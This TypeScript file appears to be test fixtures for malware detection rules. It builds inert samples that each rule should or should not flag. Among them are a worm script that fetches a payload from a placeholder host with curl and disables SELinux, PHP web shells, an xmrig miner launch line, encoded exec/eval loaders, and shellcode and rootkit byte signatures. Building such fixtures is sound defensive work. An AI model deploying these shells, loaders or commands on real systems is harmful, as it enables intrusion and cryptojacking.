/*
 * Inert samples for the rules that ship: the words and bytes a rule asks for, in the right kind of file, with nothing
 * that could run. Words are joined in code so that this file is no sample itself.
 */

export interface Sample {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** Rules of ours that hold. */
  readonly rules: readonly string[];
}

const ELF_TYPE = { relocatable: 1, executable: 2, shared: 3 } as const;

export const SAMPLES: readonly Sample[] = [
  sample(
    'a miner',
    ['miner_program'],
    elf('executable', 'RandomX', 'donate-level', 'wrmsr', 'stratum+tcp://', 'mining.subscribe'),
  ),
  sample('a miner without a protocol', [], elf('executable', 'RandomX', 'donate-level', 'wrmsr')),
  sample('text about a miner', [], text('RandomX donate-level wrmsr stratum+tcp:// mining.subscribe')),
  sample(
    'a script that starts a miner',
    ['miner_starter_script'],
    text(`#!/bin/sh\nxmrig -o stratum+tcp:${'//pool.invalid:3333'} -u ${'4'.repeat(95)}\n`),
  ),
  sample('a script that mentions one', [], text('#!/bin/sh\necho xmrig stratum+tcp://pool.invalid\n')),
  sample(
    'a process hider',
    ['preload_process_hider'],
    elf('shared', '/proc/self/fd/%d', '/proc/%s/stat', '%d (%[^)]s', 'readdir64', 'dlsym'),
  ),
  sample(
    'ps, which reads the same',
    [],
    elf('executable', '/proc/%s/stat', '%d (%[^)]s', 'readdir', 'dlsym'),
  ),
  sample(
    'a preloaded rootkit',
    ['preload_rootkit'],
    elf(
      'shared',
      ...['/etc/ld.so.preload', '/proc/net/tcp', 'dlsym', 'readdir64', '__lxstat64', 'unlinkat'],
      ...['pam_authenticate', '/bin/sh'],
    ),
  ),
  sample(
    'a kernel rootkit',
    ['kernel_rootkit'],
    elf('relocatable', 'module_hide', 'hacked_getdents64', 'give_root'),
  ),
  sample('a kernel module', [], elf('relocatable', 'getdents64', 'commit_creds')),
  sample(
    'the xz resolver',
    ['xz_liblzma_resolver'],
    elf('shared', bytes('f30f1efa554889f54c89ce5389fb81e7000000804883ec28488954241848894c2410')),
  ),
  sample(
    'a PAM module that keeps passwords',
    ['login_password_logger'],
    elf('shared', 'pam_sm_authenticate', `user: ${'%s'} / password: %s\n`),
  ),
  sample('a PAM module', [], elf('shared', 'pam_sm_authenticate', 'user %s', 'Password: ')),
  sample(
    'connect-back code',
    ['connect_back_shellcode'],
    elf('executable', bytes('6a2958996a025f6a015e0f05'), bytes('6a035e48ffce6a21580f0575f6')),
  ),
  sample(
    'a bot of the Mirai family',
    ['bot_flooder'],
    elf('executable', 'TSource Engine Query', '/dev/watchdog', 'listening tun0'),
  ),
  sample(
    'the same under its key',
    ['bot_flooder'],
    elf('executable', xored('TSource Engine Query'), xored('/dev/watchdog'), xored('listening tun0')),
  ),
  sample('busybox', [], elf('executable', '/dev/watchdog', '/bin/busybox', 'applet not found')),
  sample(
    'a bot that listens on IRC',
    ['bot_irc_flooder'],
    elf('executable', 'NOTICE %s :TSUNAMI <target> <secs>\n', 'PAN <target> <port> <secs>', 'NICK %s\n'),
  ),
  sample('an IRC client', [], elf('executable', 'NICK %s\n', 'NOTICE %s :', 'PRIVMSG')),
  sample(
    'a worm',
    ['worm_script'],
    text(
      '#!/bin/bash\npkill -f kdevtmpfsi\npkill -f kinsing\nchattr -iae /etc/ld.so.preload\n' +
        'curl -s http://worm.invalid/k.sh > /tmp/k\nsetenforce 0\n',
    ),
  ),
  sample(
    'a script that looks for one',
    [],
    text('#!/bin/sh\npgrep kinsing kdevtmpfsi && echo found; chattr -i /etc/ld.so.preload\n'),
  ),
  sample(
    'a page that runs a request',
    ['php_runs_request'],
    text(`<?php @ev${'al'}(base64_dec${'ode'}($_PO${'ST'}['x'])); ?>`),
  ),
  sample(
    'the same behind a picture',
    ['php_runs_request'],
    text(`GIF89a<?php ass${'ert'}( $_REQU${'EST'}["x"] );`),
  ),
  sample(
    'a page that reads a request',
    [],
    text("<?php echo htmlspecialchars($_POST['x']); evaluate($_POST);"),
  ),
  sample('a page with a shell', ['php_runs_command'], text(`<?php sys${'tem'}($_G${'ET'}['c']);`)),
  sample(
    'an encoded Python program',
    ['python_runs_encoded'],
    text(`import zlib,base64\nex${'ec'}(zlib.decompress(base64.b64dec${'ode'}("${'QUJD'.repeat(12)}")))\n`),
  ),
  sample('a Python test of base64', [], text('exec(base64.b64decode(payload))\n')),
  sample(
    'an encoded JavaScript program',
    ['node_runs_encoded'],
    text(`ev${'al'}(Buffer.from("${'QUJD'.repeat(12)}", 'base64').toString())\n`),
  ),
  sample('JavaScript that decodes', [], text(`const x = Buffer.from("${'QUJD'.repeat(12)}", 'base64');\n`)),
];

function sample(name: string, rules: readonly string[], content: Uint8Array): Sample {
  return { name, rules, bytes: content };
}

function text(content: string): Uint8Array {
  return Buffer.from(content, 'latin1');
}

/** An ELF header (x86-64, little-endian) and strings behind it. */
function elf(type: keyof typeof ELF_TYPE, ...strings: readonly (string | Uint8Array)[]): Uint8Array {
  const header = Buffer.alloc(64);
  header.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
  header.writeUInt16LE(ELF_TYPE[type], 16);
  header.writeUInt16LE(62, 18);
  const parts = strings.flatMap((part) => [Buffer.from(part as string, 'latin1'), Buffer.alloc(1)]);
  return Buffer.concat([header, ...parts]);
}

function bytes(hex: string): Uint8Array {
  return Buffer.from(hex, 'hex');
}

function xored(plain: string): Uint8Array {
  return Buffer.from(plain, 'latin1').map((byte) => byte ^ 0x22);
}
